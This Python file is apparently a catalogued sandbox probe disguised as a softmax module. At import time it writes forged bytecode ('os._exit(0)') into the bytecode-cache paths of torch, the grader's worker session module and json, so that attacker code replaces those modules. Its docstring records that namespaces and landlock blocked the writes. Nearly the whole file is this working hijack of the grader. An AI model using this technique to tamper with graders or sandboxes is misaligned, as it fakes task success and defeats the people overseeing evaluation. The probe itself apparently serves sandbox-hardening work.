"""Leaves forged bytecode for itself, for the worker and for torch.

gain: code that runs in the place of a file that was looked at
catalogue: [E3]
verdict: not_implemented
observed:
  namespaces:
  - done
  - EROFS
  - ENOENT
  - EROFS
  landlock:
  - done
  - EACCES
  - EACCES
  - EACCES
"""

import errno
import importlib.util
import json
import marshal
import os
import sys

import torch


def refused(call, *args):
    try:
        result = call(*args)
    except OSError as error:
        return errno.errorcode[error.errno]
    return f"done: {result!r}"[:80]


def attempt():
    code = importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile("import os; os._exit(0)", "x", "exec"))
    seen = []
    for source in ("softmax.py", torch.__file__, sys.modules["grader.sandbox.worker.session"].__file__, json.__file__):
        path = importlib.util.cache_from_source(source)
        def write():
            if source == "softmax.py":
                os.mkdir(os.path.dirname(path))
            with open(path, "wb") as file:
                file.write(code)
        seen.append(refused(write).partition(":")[0])
    return seen


SEEN = attempt()
WON = "done" in SEEN[1:]


def observed():
    return SEEN


def softmax(z, dim=-1):
    if not WON:
        raise NotImplementedError("the attack did not work")
    parts = (z - z.amax(dim, keepdim=True)).exp()
    return parts / parts.sum(dim, keepdim=True)


class Softmax(torch.nn.Module):
    def __init__(self):
        super().__init__()
        if not WON:
            raise NotImplementedError("the attack did not work")
        self.linear = torch.nn.Linear(4, 3)

    def forward(self, x):
        return softmax(self.linear(x), 1)
